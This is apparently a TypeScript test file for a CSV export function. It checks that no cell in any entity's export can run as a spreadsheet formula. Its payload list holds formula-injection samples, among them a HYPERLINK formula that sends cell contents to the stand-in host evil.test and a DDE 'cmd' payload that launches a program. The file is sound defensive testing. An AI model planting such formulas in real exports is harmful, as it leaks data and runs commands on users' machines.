/** No cell of an export is run as a formula by a spreadsheet, whatever somebody wrote into whichever field. */
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { entities } from '../entities/registry.ts';
import { type Entity, META_FIELDS } from '../model/entity.ts';
import { exportCsv } from './export.ts';

const PAYLOADS = [
  `=HYPERLINK("http://evil.test/?"&A1,"click")`,
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  '=1+1\n=2+2',
];
const RUN = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** Every field holds the payload wherever it takes a text, alone or inside a list. */
function recordOf(entity: Entity, payload: string): Record<string, unknown> {
  const fields = Object.entries({ ...META_FIELDS, ...entity.fields });
  const attempts = [payload, [payload], [{ value: payload, label: payload, kind: payload }]];
  const values = fields.map(([name, field]) => [name, attempts.find((each) => field.accepts(each)) ?? field.initial]);
  return { id: `${entity.name}_ABCDEFGHIJKLMNOP`, entity: entity.name, ...Object.fromEntries(values) };
}

describe.each(Object.values(entities) as Entity[])('$name', (entity) => {
  test.each(PAYLOADS)('a cell that says %j is shown and not run', (payload) => {
    const csv = exportCsv(entity, [recordOf(entity, payload)], { nameOf: () => payload });
    const { data } = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true });
    const cells = data.flat();
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter((cell) => RUN.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
  });
});
